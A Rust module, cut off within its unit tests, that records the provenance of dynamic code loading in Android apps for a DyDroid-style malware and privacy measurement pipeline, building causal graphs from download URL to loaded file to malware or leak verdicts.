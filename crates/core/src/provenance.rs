//! The per-app DCL provenance flight recorder.
//!
//! DyDroid's measurement artifacts — the DCL logger records, the
//! download-tracker flow graph (Table I) and the Table VIII environment
//! re-runs — are fused here into one causal graph per app with stable
//! node ids: URL → InputStream → Buffer/OutputStream → File → DCL load →
//! call-site entity → (malware / privacy) verdict, including
//! interception-queue suppressions (blocked delete/rename) and
//! per-environment-config load outcomes. The graph is persisted as a
//! compact JSONL ledger beside the sweep journal ([`ProvenanceLedger`]),
//! resume-safe and torn-tail tolerant like the journal itself, and
//! queried offline by the `dcltrace` bench bin.
//!
//! Determinism contract: node ids are indices into the key-sorted node
//! list and every collection is sorted before serialization, so a
//! completed run's finalized ledger is byte-identical across same-seed
//! runs and across resume-from-checkpoint runs. The span cross-link is
//! excluded from the serialized form (span ids depend on worker
//! interleave); the durable link is emitted into the telemetry event
//! stream instead (`Telemetry::emit_provenance_link`).

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::fmt::Write as _;
use std::io;
use std::path::{Path, PathBuf};

use dydroid_analysis::entity::{classify, Entity};
use dydroid_avm::{DclEvent, DclKind, Event, EventLog, FileOp, FlowGraph, FlowNode};
use serde::{Deserialize, Serialize};

use crate::durable::{
    atomic_write_frames, encode_frames, scan_path, FramedWriter, IoHarness, SinkOptions, StreamKind,
};
use crate::pipeline::{verdict_label, AppRecord, MalwareHit};

/// A node in the causal provenance graph. Every variant carries the
/// fields that make it identity-stable across runs (no heap addresses,
/// no timestamps).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum ProvNode {
    /// A remote origin: a `java.net.URL` the download tracker saw.
    Url {
        /// The URL string.
        url: String,
    },
    /// An `InputStream` object, by heap id.
    InputStream {
        /// Heap object id.
        obj: u32,
    },
    /// A `Buffer` object, by heap id.
    Buffer {
        /// Heap object id.
        obj: u32,
    },
    /// An `OutputStream` object, by heap id.
    OutputStream {
        /// Heap object id.
        obj: u32,
    },
    /// A file on the device, by absolute path.
    File {
        /// Absolute path.
        path: String,
    },
    /// A successful DCL load of a file, with its call-site entity.
    Load {
        /// Loaded path.
        path: String,
        /// Loader API (`DexClassLoader`, `System.load`, ...).
        kind: String,
        /// Call-site class (top app frame, Figure 2).
        call_site: String,
        /// Entity classification of the call site (`own`/`third-party`).
        entity: String,
    },
    /// A file operation suppressed by the interception queue.
    Blocked {
        /// Affected path.
        path: String,
        /// Blocked operation (`delete`/`rename`/`write`).
        op: String,
    },
    /// A malware verdict on a loaded file.
    Malware {
        /// Flagged path.
        path: String,
        /// Matched family.
        family: String,
    },
    /// A privacy-leak verdict on a loaded file.
    Leak {
        /// Leaking path.
        path: String,
        /// Leaked privacy type label.
        privacy: String,
    },
}

impl ProvNode {
    /// The node's canonical key: unique, and its sort order defines the
    /// stable node-id assignment.
    pub fn key(&self) -> String {
        match self {
            ProvNode::Url { url } => format!("url:{url}"),
            ProvNode::InputStream { obj } => format!("istream:{obj:08}"),
            ProvNode::Buffer { obj } => format!("buffer:{obj:08}"),
            ProvNode::OutputStream { obj } => format!("ostream:{obj:08}"),
            ProvNode::File { path } => format!("file:{path}"),
            ProvNode::Load {
                path,
                kind,
                call_site,
                ..
            } => format!("load:{path}|{kind}|{call_site}"),
            ProvNode::Blocked { path, op } => format!("blocked:{path}|{op}"),
            ProvNode::Malware { path, family } => format!("malware:{path}|{family}"),
            ProvNode::Leak { path, privacy } => format!("leak:{path}|{privacy}"),
        }
    }

    /// Human-readable label for chain rendering and DOT export.
    pub fn label(&self) -> String {
        match self {
            ProvNode::Url { url } => format!("URL {url}"),
            ProvNode::InputStream { obj } => format!("InputStream#{obj}"),
            ProvNode::Buffer { obj } => format!("Buffer#{obj}"),
            ProvNode::OutputStream { obj } => format!("OutputStream#{obj}"),
            ProvNode::File { path } => format!("File {path}"),
            ProvNode::Load {
                kind,
                call_site,
                entity,
                ..
            } => format!("Load[{kind} @ {call_site} ({entity})]"),
            ProvNode::Blocked { path, op } => format!("Blocked[{op} {path}]"),
            ProvNode::Malware { family, .. } => format!("Malware[{family}]"),
            ProvNode::Leak { privacy, .. } => format!("Leak[{privacy}]"),
        }
    }
}

/// A directed edge between two node ids.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProvEdge {
    /// Source node id (index into [`AppProvenance::nodes`]).
    pub from: u32,
    /// Target node id.
    pub to: u32,
    /// Edge kind: `flow`, `load`, `blocked`, or `verdict`.
    pub kind: String,
    /// Multiplicity (Table I rules fire repeatedly on hot copy loops).
    pub count: u64,
}

/// One file's load outcome across the Table VIII environment configs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvLoadOutcome {
    /// The malicious path re-run under each configuration.
    pub path: String,
    /// Config names (Table VIII order) under which the file still loaded.
    pub configs: Vec<String>,
}

/// A divergent load: present under some environment configs, absent
/// under others — the logic-bomb signal `dcltrace diff` surfaces.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnvDivergence {
    /// The divergent path.
    pub path: String,
    /// Configs under which it loaded.
    pub loaded_under: Vec<String>,
    /// Configs under which it did not load.
    pub missing_under: Vec<String>,
}

/// The complete provenance flight-recorder record of one app.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AppProvenance {
    /// Package name.
    pub package: String,
    /// Final verdict label of the dynamic phase (`exercised`, `crash`,
    /// `static_only`, ...).
    pub verdict: String,
    /// Whether this record was reconstructed from a journaled
    /// [`AppRecord`] instead of captured live — stream-level nodes,
    /// blocked ops and per-path leaks are missing in that case.
    pub degraded: bool,
    /// Graph nodes; a node's id is its index (key-sorted, stable).
    pub nodes: Vec<ProvNode>,
    /// Graph edges, sorted by `(from, to, kind)`.
    pub edges: Vec<ProvEdge>,
    /// Events evicted by the `EventLog` ring bound during the run.
    pub dropped_events: u64,
    /// Distinct flow edges dropped at the `FlowGraph` edge cap.
    pub truncated_flow_edges: u64,
    /// Duplicate flow-rule firings folded into edge multiplicities.
    pub deduped_flow_edges: u64,
    /// Table VIII per-config load outcomes (malware-flagged apps only;
    /// attached when the run finalizes).
    pub env_loads: Vec<EnvLoadOutcome>,
    /// The app's telemetry span id, for cross-referencing the event
    /// stream. Excluded from the serialized ledger (span ids depend on
    /// thread interleave); the durable link lives in the event stream.
    #[serde(skip)]
    pub span: u64,
}

/// Accumulates nodes and edges with deterministic id assignment.
#[derive(Default)]
struct GraphBuilder {
    nodes: BTreeMap<String, ProvNode>,
    edges: BTreeMap<(String, String, &'static str), u64>,
}

impl GraphBuilder {
    fn node(&mut self, node: ProvNode) -> String {
        let key = node.key();
        self.nodes.entry(key.clone()).or_insert(node);
        key
    }

    fn edge(&mut self, from: ProvNode, to: ProvNode, kind: &'static str, count: u64) {
        let f = self.node(from);
        let t = self.node(to);
        *self.edges.entry((f, t, kind)).or_insert(0) += count;
    }

    /// All load nodes for `path`, or the file node as a fallback — the
    /// anchors verdict edges hang off.
    fn verdict_sources(&self, path: &str) -> Vec<ProvNode> {
        let loads: Vec<ProvNode> = self
            .nodes
            .values()
            .filter(|n| matches!(n, ProvNode::Load { path: p, .. } if p == path))
            .cloned()
            .collect();
        if loads.is_empty() {
            vec![ProvNode::File {
                path: path.to_string(),
            }]
        } else {
            loads
        }
    }

    fn finish(self) -> (Vec<ProvNode>, Vec<ProvEdge>) {
        let ids: HashMap<&str, u32> = self
            .nodes
            .keys()
            .enumerate()
            .map(|(i, k)| (k.as_str(), i as u32))
            .collect();
        // BTreeMap order is (from-key, to-key, kind); keys sort exactly
        // like the ids they map to, so the edge list comes out sorted by
        // (from, to, kind) without a second pass.
        let edges = self
            .edges
            .iter()
            .map(|((f, t, kind), count)| ProvEdge {
                from: ids[f.as_str()],
                to: ids[t.as_str()],
                kind: (*kind).to_string(),
                count: *count,
            })
            .collect();
        (self.nodes.into_values().collect(), edges)
    }
}

fn flow_to_prov(node: &FlowNode) -> ProvNode {
    match node {
        FlowNode::Url(url) => ProvNode::Url { url: url.clone() },
        FlowNode::InputStream(obj) => ProvNode::InputStream { obj: *obj },
        FlowNode::Buffer(obj) => ProvNode::Buffer { obj: *obj },
        FlowNode::OutputStream(obj) => ProvNode::OutputStream { obj: *obj },
        FlowNode::File(path) => ProvNode::File { path: path.clone() },
    }
}

fn kind_label(kind: DclKind) -> &'static str {
    match kind {
        DclKind::DexClassLoader => "DexClassLoader",
        DclKind::PathClassLoader => "PathClassLoader",
        DclKind::NativeLoad => "System.load",
        DclKind::NativeLoadLibrary => "System.loadLibrary",
    }
}

fn entity_label(entity: Entity) -> &'static str {
    match entity {
        Entity::Own => "own",
        Entity::ThirdParty => "third-party",
    }
}

fn op_label(op: FileOp) -> &'static str {
    match op {
        FileOp::Write => "write",
        FileOp::Delete => "delete",
        FileOp::Rename => "rename",
    }
}

fn load_node(package: &str, event: &DclEvent) -> ProvNode {
    ProvNode::Load {
        path: event.path.clone(),
        kind: kind_label(event.kind).to_string(),
        call_site: event.call_site_class.clone(),
        entity: entity_label(classify(package, &event.call_site_class)).to_string(),
    }
}

impl AppProvenance {
    /// Builds the full causal graph from the live device state after the
    /// dynamic phase: the flow graph (Table I), DCL events, interception
    /// suppressions, and the detector/taint verdicts with per-path
    /// attribution (`path_leaks` pairs a loaded path with a leaked
    /// privacy-type label).
    #[allow(clippy::too_many_arguments)]
    pub fn build(
        package: &str,
        verdict: &str,
        log: &EventLog,
        flow: &FlowGraph,
        dex_events: &[DclEvent],
        native_events: &[DclEvent],
        malware: &[MalwareHit],
        path_leaks: &[(String, String)],
    ) -> AppProvenance {
        let mut b = GraphBuilder::default();
        for (from, to, count) in flow.edges() {
            b.edge(flow_to_prov(from), flow_to_prov(to), "flow", count);
        }
        for event in dex_events.iter().chain(native_events.iter()) {
            b.edge(
                ProvNode::File {
                    path: event.path.clone(),
                },
                load_node(package, event),
                "load",
                1,
            );
        }
        for event in log.events() {
            if let Event::File {
                op,
                path,
                suppressed: true,
                ..
            } = event
            {
                b.edge(
                    ProvNode::File { path: path.clone() },
                    ProvNode::Blocked {
                        path: path.clone(),
                        op: op_label(*op).to_string(),
                    },
                    "blocked",
                    1,
                );
            }
        }
        for hit in malware {
            for source in b.verdict_sources(&hit.path) {
                b.edge(
                    source,
                    ProvNode::Malware {
                        path: hit.path.clone(),
                        family: hit.family.clone(),
                    },
                    "verdict",
                    1,
                );
            }
        }
        for (path, privacy) in path_leaks {
            for source in b.verdict_sources(path) {
                b.edge(
                    source,
                    ProvNode::Leak {
                        path: path.clone(),
                        privacy: privacy.clone(),
                    },
                    "verdict",
                    1,
                );
            }
        }
        let (nodes, edges) = b.finish();
        AppProvenance {
            package: package.to_string(),
            verdict: verdict.to_string(),
            degraded: false,
            nodes,
            edges,
            dropped_events: log.dropped_events(),
            truncated_flow_edges: flow.truncated_edges(),
            deduped_flow_edges: flow.duplicate_edges(),
            env_loads: Vec::new(),
            span: 0,
        }
    }

    /// Reconstructs a coarse graph from a journaled [`AppRecord`] — the
    /// fallback for resumed apps whose ledger line was lost to a torn
    /// tail. URL→File edges are direct (the stream-level intermediates
    /// are not journaled) and blocked ops / per-path leaks are missing;
    /// the record is marked [`degraded`](AppProvenance::degraded).
    pub fn from_record(record: &AppRecord) -> AppProvenance {
        let mut b = GraphBuilder::default();
        if let Some(d) = &record.dynamic {
            for (path, urls) in &d.remote_loads {
                for url in urls {
                    b.edge(
                        ProvNode::Url { url: url.clone() },
                        ProvNode::File { path: path.clone() },
                        "flow",
                        1,
                    );
                }
            }
            for event in d.dex_events.iter().chain(d.native_events.iter()) {
                b.edge(
                    ProvNode::File {
                        path: event.path.clone(),
                    },
                    load_node(&record.package, event),
                    "load",
                    1,
                );
            }
            for hit in &d.malware {
                for source in b.verdict_sources(&hit.path) {
                    b.edge(
                        source,
                        ProvNode::Malware {
                            path: hit.path.clone(),
                            family: hit.family.clone(),
                        },
                        "verdict",
                        1,
                    );
                }
            }
        }
        let (nodes, edges) = b.finish();
        AppProvenance {
            package: record.package.clone(),
            verdict: verdict_label(record).to_string(),
            degraded: true,
            nodes,
            edges,
            dropped_events: 0,
            truncated_flow_edges: 0,
            deduped_flow_edges: 0,
            env_loads: Vec::new(),
            span: 0,
        }
    }

    /// The id of the node with `key`, if present. Nodes are key-sorted,
    /// so this is a binary search.
    pub fn node_index(&self, key: &str) -> Option<usize> {
        self.nodes
            .binary_search_by(|n| n.key().as_str().cmp(key))
            .ok()
    }

    /// All load-node ids for `path`.
    pub fn loads_for(&self, path: &str) -> Vec<usize> {
        self.nodes
            .iter()
            .enumerate()
            .filter(|(_, n)| matches!(n, ProvNode::Load { path: p, .. } if p == path))
            .map(|(i, _)| i)
            .collect()
    }

    /// Verdict-node ids reachable from `node` over `verdict` edges.
    pub fn verdicts_of(&self, node: usize) -> Vec<usize> {
        self.edges
            .iter()
            .filter(|e| e.kind == "verdict" && e.from as usize == node)
            .map(|e| e.to as usize)
            .collect()
    }

    /// The causal chain ending at `File(path)`: a shortest path over
    /// `flow` edges from a URL node when one reaches the file (the
    /// remote-provenance case), otherwise from the farthest local origin
    /// (e.g. an APK asset). `None` when the file is not in the graph.
    pub fn chain_node_ids(&self, path: &str) -> Option<Vec<usize>> {
        let file_key = ProvNode::File {
            path: path.to_string(),
        }
        .key();
        let file_id = self.node_index(&file_key)?;
        // Reverse adjacency over flow edges, in sorted-edge order so the
        // BFS (and therefore the chosen chain) is deterministic.
        let mut reverse: HashMap<usize, Vec<usize>> = HashMap::new();
        for e in self.edges.iter().filter(|e| e.kind == "flow") {
            reverse
                .entry(e.to as usize)
                .or_default()
                .push(e.from as usize);
        }
        let mut parent: HashMap<usize, usize> = HashMap::new();
        let mut queue = VecDeque::from([file_id]);
        let mut origin = file_id;
        let mut url_origin = None;
        while let Some(node) = queue.pop_front() {
            if url_origin.is_none() && matches!(self.nodes[node], ProvNode::Url { .. }) {
                url_origin = Some(node);
                break; // BFS: first URL reached is a fewest-hops origin.
            }
            origin = node;
            if let Some(preds) = reverse.get(&node) {
                for &p in preds {
                    if p != file_id && !parent.contains_key(&p) {
                        parent.insert(p, node);
                        queue.push_back(p);
                    }
                }
            }
        }
        let mut chain = Vec::new();
        let mut cursor = url_origin.unwrap_or(origin);
        chain.push(cursor);
        while cursor != file_id {
            cursor = parent[&cursor];
            chain.push(cursor);
        }
        Some(chain)
    }

    /// Whether the chain for `path` starts at a URL node — the graph's
    /// answer to `FlowGraph::is_remote`.
    pub fn is_remote_chain(&self, path: &str) -> bool {
        self.chain_node_ids(path)
            .and_then(|c| c.first().copied())
            .map(|id| matches!(self.nodes[id], ProvNode::Url { .. }))
            .unwrap_or(false)
    }

    /// Renders the full causal chain for `path` as text: the flow chain,
    /// then each load with its verdicts. `None` when the file is unknown.
    pub fn render_chain(&self, path: &str) -> Option<String> {
        let chain = self.chain_node_ids(path)?;
        let mut s = chain
            .iter()
            .map(|&i| self.nodes[i].label())
            .collect::<Vec<_>>()
            .join(" -> ");
        s.push('\n');
        for load in self.loads_for(path) {
            let _ = write!(s, "  \\-> {}", self.nodes[load].label());
            for verdict in self.verdicts_of(load) {
                let _ = write!(s, " -> {}", self.nodes[verdict].label());
            }
            s.push('\n');
        }
        Some(s)
    }

    /// Every loaded path that appears as a `load` edge target's source
    /// file, sorted — the paths `chain` can be asked about.
    pub fn loaded_paths(&self) -> Vec<String> {
        let mut paths: Vec<String> = self
            .nodes
            .iter()
            .filter_map(|n| match n {
                ProvNode::Load { path, .. } => Some(path.clone()),
                _ => None,
            })
            .collect();
        paths.sort();
        paths.dedup();
        paths
    }

    /// The loads whose presence differs across the four environment
    /// configurations — exactly the Table VIII divergence set.
    pub fn env_diff(&self) -> Vec<EnvDivergence> {
        let all = crate::environment::config_names();
        self.env_loads
            .iter()
            .filter(|l| l.configs.len() < all.len())
            .map(|l| EnvDivergence {
                path: l.path.clone(),
                loaded_under: l.configs.clone(),
                missing_under: all
                    .iter()
                    .filter(|n| !l.configs.iter().any(|c| c == *n))
                    .map(|n| (*n).to_string())
                    .collect(),
            })
            .collect()
    }

    /// Graphviz DOT rendering of this app's graph.
    pub fn to_dot(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(s, "digraph \"{}\" {{", dot_escape(&self.package));
        let _ = writeln!(s, "  rankdir=LR;");
        let _ = writeln!(s, "  label=\"{}\";", dot_escape(&self.package));
        self.dot_body(&mut s, "  ", "n");
        s.push_str("}\n");
        s
    }

    /// Writes node and edge statements with an id prefix (shared by the
    /// single-app export and the clustered corpus export).
    fn dot_body(&self, s: &mut String, indent: &str, prefix: &str) {
        for (i, node) in self.nodes.iter().enumerate() {
            let (shape, color) = match node {
                ProvNode::Url { .. } => ("ellipse", "lightblue"),
                ProvNode::File { .. } => ("box", "white"),
                ProvNode::Load { entity, .. } if entity == "own" => ("hexagon", "palegreen"),
                ProvNode::Load { .. } => ("hexagon", "khaki"),
                ProvNode::Blocked { .. } => ("octagon", "gray"),
                ProvNode::Malware { .. } => ("diamond", "tomato"),
                ProvNode::Leak { .. } => ("diamond", "orange"),
                _ => ("plaintext", "white"),
            };
            let _ = writeln!(
                s,
                "{indent}{prefix}{i} [label=\"{}\" shape={shape} style=filled fillcolor={color}];",
                dot_escape(&node.label())
            );
        }
        for edge in &self.edges {
            let label = if edge.count > 1 {
                format!("{} x{}", edge.kind, edge.count)
            } else {
                edge.kind.clone()
            };
            let _ = writeln!(
                s,
                "{indent}{prefix}{} -> {prefix}{} [label=\"{label}\"];",
                edge.from, edge.to
            );
        }
    }
}

fn dot_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// Clustered Graphviz DOT export of many apps' graphs in one document.
pub fn corpus_dot(records: &[AppProvenance]) -> String {
    let mut s = String::new();
    let _ = writeln!(s, "digraph dcl_provenance {{");
    let _ = writeln!(s, "  rankdir=LR;");
    for (i, record) in records.iter().enumerate() {
        let _ = writeln!(s, "  subgraph cluster_{i} {{");
        let _ = writeln!(s, "    label=\"{}\";", dot_escape(&record.package));
        record.dot_body(&mut s, "    ", &format!("a{i}_n"));
        let _ = writeln!(s, "  }}");
    }
    s.push_str("}\n");
    s
}

/// Verifies that the ledger and the journal agree on the app set —
/// the CI smoke check. Returns a human-readable report of any mismatch.
///
/// # Errors
///
/// Returns a description of the packages present on one side only.
pub fn check_against_journal(
    ledger: &[AppProvenance],
    journal: &[AppRecord],
) -> Result<(), String> {
    let ledger_set: std::collections::BTreeSet<&str> =
        ledger.iter().map(|p| p.package.as_str()).collect();
    let journal_set: std::collections::BTreeSet<&str> =
        journal.iter().map(|r| r.package.as_str()).collect();
    if ledger_set == journal_set {
        return Ok(());
    }
    let missing: Vec<&str> = journal_set.difference(&ledger_set).copied().collect();
    let extra: Vec<&str> = ledger_set.difference(&journal_set).copied().collect();
    let mut msg = String::new();
    if !missing.is_empty() {
        let _ = write!(
            msg,
            "{} journaled app(s) missing from ledger: {}",
            missing.len(),
            missing[..missing.len().min(5)].join(", ")
        );
    }
    if !extra.is_empty() {
        if !msg.is_empty() {
            msg.push_str("; ");
        }
        let _ = write!(
            msg,
            "{} ledger app(s) not in journal: {}",
            extra.len(),
            extra[..extra.len().min(5)].join(", ")
        );
    }
    Err(msg)
}

/// Corpus-level provenance aggregation, computed on demand from a
/// [`crate::MeasurementReport`] (see `MeasurementReport::provenance_index`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProvenanceIndex {
    /// Apps with at least one remote-origin load chain.
    pub remote_apps: usize,
    /// Distinct remote-origin loaded files.
    pub remote_files: usize,
    /// Remote-origin chains per responsible entity
    /// (`own`/`third-party`), counted per (app, path) chain.
    pub remote_by_entity: Vec<(String, usize)>,
    /// Top staging directories of loaded files: `(dir, #loads)`,
    /// descending, capped at 10.
    pub staging_dirs: Vec<(String, usize)>,
    /// Loads whose presence diverges across the environment configs:
    /// `(package, path, configs loaded under)`.
    pub divergent: Vec<(String, String, Vec<String>)>,
}

impl ProvenanceIndex {
    /// Renders the index as a text section.
    pub fn render(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "PROVENANCE INDEX — {} apps with remote-origin chains over {} files",
            self.remote_apps, self.remote_files
        );
        for (entity, n) in &self.remote_by_entity {
            let _ = writeln!(s, "  remote chains via {entity}: {n}");
        }
        if !self.staging_dirs.is_empty() {
            let _ = writeln!(s, "  top staging directories:");
            for (dir, n) in &self.staging_dirs {
                let _ = writeln!(s, "    {dir}  ({n} loads)");
            }
        }
        let _ = writeln!(s, "  environment-divergent loads: {}", self.divergent.len());
        for (pkg, path, configs) in &self.divergent {
            let _ = writeln!(s, "    {pkg} {path}  loaded under [{}]", configs.join(", "));
        }
        s
    }
}

/// The JSONL provenance ledger beside the sweep journal: one
/// [`AppProvenance`] per line, streamed during the sweep for
/// resume-safety and rewritten deterministically (corpus order, deduped)
/// when a run completes.
#[derive(Debug, Clone)]
pub struct ProvenanceLedger {
    path: PathBuf,
}

/// Outcome of [`ProvenanceLedger::recover_counted`].
#[derive(Debug, Clone)]
pub struct LedgerRecovery {
    /// Every record in the valid framed prefix before the first defect.
    pub records: Vec<AppProvenance>,
    /// Frames/lines discarded from the first defect onward.
    pub dropped_lines: usize,
}

impl ProvenanceLedger {
    /// A ledger at `path`; the file need not exist yet.
    pub fn new(path: impl Into<PathBuf>) -> Self {
        ProvenanceLedger { path: path.into() }
    }

    /// The ledger's path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Loads every complete record; a missing file is an empty ledger
    /// and a torn tail ends the load (same tolerance as the journal).
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn load(&self) -> io::Result<Vec<AppProvenance>> {
        Ok(self.load_split()?.0)
    }

    /// Like [`ProvenanceLedger::load`], but truncates a torn or corrupt
    /// tail so later appends extend a clean contiguous stream, and
    /// reports the dropped count.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the file.
    pub fn recover_counted(&self) -> io::Result<LedgerRecovery> {
        let (records, dropped_lines) = self.load_split()?;
        if dropped_lines > 0 {
            self.rewrite(&records)?;
        }
        Ok(LedgerRecovery {
            records,
            dropped_lines,
        })
    }

    /// Rewrites the ledger to exactly `records`, reframed from
    /// sequence 0 (plain write; for recovery paths).
    ///
    /// # Errors
    ///
    /// Returns serialization or write errors.
    pub fn rewrite(&self, records: &[AppProvenance]) -> io::Result<()> {
        std::fs::write(&self.path, encode_frames(0, &ledger_bodies(records)?))
    }

    fn load_split(&self) -> io::Result<(Vec<AppProvenance>, usize)> {
        let Some(scan) = scan_path(&self.path)? else {
            return Ok((Vec::new(), 0));
        };
        let mut records = Vec::new();
        for (i, body) in scan.bodies.iter().enumerate() {
            match serde_json::from_str::<AppProvenance>(body) {
                Ok(record) => records.push(record),
                Err(_) => return Ok((records, scan.bodies.len() - i + scan.dropped)),
            }
        }
        Ok((records, scan.dropped))
    }

    /// Opens the ledger for appending with stand-alone sink options,
    /// creating it if needed; a torn tail is truncated so the sequence
    /// continues cleanly.
    ///
    /// # Errors
    ///
    /// Returns the underlying open error.
    pub fn writer(&self) -> io::Result<LedgerWriter> {
        self.writer_with(SinkOptions::direct(StreamKind::Ledger))
    }

    /// Like [`ProvenanceLedger::writer`], but with explicit sink options
    /// so the pipeline can thread the run's shared I/O state, sync
    /// policy, and fault harness through.
    ///
    /// # Errors
    ///
    /// Returns the underlying open error.
    pub fn writer_with(&self, opts: SinkOptions) -> io::Result<LedgerWriter> {
        Ok(LedgerWriter {
            inner: FramedWriter::open(&self.path, opts)?,
        })
    }

    /// Deletes the ledger file if present.
    ///
    /// # Errors
    ///
    /// Returns I/O errors other than the file not existing.
    pub fn reset(&self) -> io::Result<()> {
        match std::fs::remove_file(&self.path) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(e),
        }
    }

    /// Rewrites the ledger to exactly `records`, in the given order —
    /// called with corpus-ordered records when a run completes, which is
    /// what makes the finalized file byte-identical across same-seed
    /// and resumed runs.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from writing the file.
    pub fn finalize(&self, records: &[AppProvenance]) -> io::Result<()> {
        self.finalize_with(records, None)
    }

    /// Like [`ProvenanceLedger::finalize`], but atomic (temp file +
    /// rename) and routed through the fault harness when present — a
    /// crash or injected fault mid-finalize leaves the previous bytes
    /// intact rather than a blend.
    ///
    /// # Errors
    ///
    /// Returns serialization or write errors.
    pub fn finalize_with(
        &self,
        records: &[AppProvenance],
        harness: Option<&std::sync::Arc<IoHarness>>,
    ) -> io::Result<()> {
        atomic_write_frames(&self.path, &ledger_bodies(records)?, harness)
    }
}

fn ledger_bodies(records: &[AppProvenance]) -> io::Result<Vec<String>> {
    records
        .iter()
        .map(|r| {
            serde_json::to_string(r)
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))
        })
        .collect()
}

/// An append handle to a [`ProvenanceLedger`]; one framed record per
/// line, flushed per append. Under sustained disk pressure (shed level
/// ≥ 3) appends are shed — counted, not written — since the finalize at
/// run completion reconstructs the full ledger from memory.
#[derive(Debug)]
pub struct LedgerWriter {
    inner: FramedWriter,
}

impl LedgerWriter {
    /// Appends one record as a framed JSON line (or sheds it under disk
    /// pressure).
    ///
    /// # Errors
    ///
    /// Returns the underlying write error (transient faults are retried
    /// within the run's budget first).
    pub fn append(&mut self, record: &AppProvenance) -> io::Result<()> {
        let body = serde_json::to_string(record)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        self.inner.append_body(&body).map(|_| ())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_avm::EventLog;

    fn dcl(path: &str, call_site: &str) -> DclEvent {
        DclEvent {
            kind: DclKind::DexClassLoader,
            path: path.to_string(),
            odex_dir: None,
            call_site_class: call_site.to_string(),
            stack: vec![format!("{call_site}->init")],
            package: "com.app".to_string(),
            success: true,
        }
    }

    fn downloaded_app() -> AppProvenance {
        let mut flow = FlowGraph::new();
        flow.add_edge(
            FlowNode::Url("http://cdn.x.com/a.dex".to_string()),
            FlowNode::InputStream(1),
        );
        flow.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        flow.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        flow.add_edge(
            FlowNode::OutputStream(3),
            FlowNode::File("/data/data/a/files/a.dex".to_string()),
        );
        let mut log = EventLog::new();
        log.push(Event::File {
            op: FileOp::Delete,
            path: "/data/data/a/files/a.dex".to_string(),
            suppressed: true,
            package: "com.app".to_string(),
        });
        let events = vec![dcl("/data/data/a/files/a.dex", "com.ads.Loader")];
        let malware = vec![MalwareHit {
            path: "/data/data/a/files/a.dex".to_string(),
            family: "adware".to_string(),
            score: 1.0,
            native: false,
        }];
        let leaks = vec![("/data/data/a/files/a.dex".to_string(), "IMEI".to_string())];
        AppProvenance::build(
            "com.app",
            "exercised",
            &log,
            &flow,
            &events,
            &[],
            &malware,
            &leaks,
        )
    }

    #[test]
    fn chain_reconstructs_url_to_load() {
        let prov = downloaded_app();
        let chain = prov
            .chain_node_ids("/data/data/a/files/a.dex")
            .expect("file in graph");
        assert_eq!(chain.len(), 5, "URL, stream, buffer, ostream, file");
        assert!(matches!(prov.nodes[chain[0]], ProvNode::Url { .. }));
        assert!(matches!(
            prov.nodes[*chain.last().unwrap()],
            ProvNode::File { .. }
        ));
        assert!(prov.is_remote_chain("/data/data/a/files/a.dex"));
        let text = prov.render_chain("/data/data/a/files/a.dex").unwrap();
        assert!(text.contains("URL http://cdn.x.com/a.dex"));
        assert!(text.contains("Load[DexClassLoader @ com.ads.Loader (third-party)]"));
        assert!(text.contains("Malware[adware]"));
        assert!(text.contains("Leak[IMEI]"));
    }

    #[test]
    fn blocked_ops_and_verdicts_present() {
        let prov = downloaded_app();
        assert!(prov
            .nodes
            .iter()
            .any(|n| matches!(n, ProvNode::Blocked { op, .. } if op == "delete")));
        assert!(prov.edges.iter().any(|e| e.kind == "blocked"));
        assert!(prov.edges.iter().any(|e| e.kind == "verdict"));
        let loads = prov.loads_for("/data/data/a/files/a.dex");
        assert_eq!(loads.len(), 1);
        assert_eq!(prov.verdicts_of(loads[0]).len(), 2);
    }

    #[test]
    fn node_ids_are_stable_and_sorted() {
        let prov = downloaded_app();
        let keys: Vec<String> = prov.nodes.iter().map(ProvNode::key).collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted);
        // Edges sorted by (from, to, kind).
        let tuples: Vec<(u32, u32, &str)> = prov
            .edges
            .iter()
            .map(|e| (e.from, e.to, e.kind.as_str()))
            .collect();
        let mut sorted_tuples = tuples.clone();
        sorted_tuples.sort();
        assert_eq!(tuples, sorted_tuples);
        // Rebuilding produces identical serialization.
        let again = downloaded_app();
        assert_eq!(
            serde_json::to_string(&prov).unwrap(),
            serde_json::to_string(&again).unwrap()
        );
    }

    #[test]
    fn local_origin_chain_is_not_remote() {
        let mut flow = FlowGraph::new();
        flow.add_edge(
            FlowNode::File("apk:assets/p.bin".to_string()),
            FlowNode::InputStream(1),
        );
        flow.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        flow.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        flow.add_edge(
            FlowNode::OutputStream(3),
            FlowNode::File("/data/data/a/cache/p.dex".to_string()),
        );
        let log = EventLog::new();
        let events = vec![dcl("/data/data/a/cache/p.dex", "com.app.Main")];
        let prov =
            AppProvenance::build("com.app", "exercised", &log, &flow, &events, &[], &[], &[]);
        assert!(!prov.is_remote_chain("/data/data/a/cache/p.dex"));
        let chain = prov.chain_node_ids("/data/data/a/cache/p.dex").unwrap();
        assert!(matches!(
            prov.nodes[chain[0]],
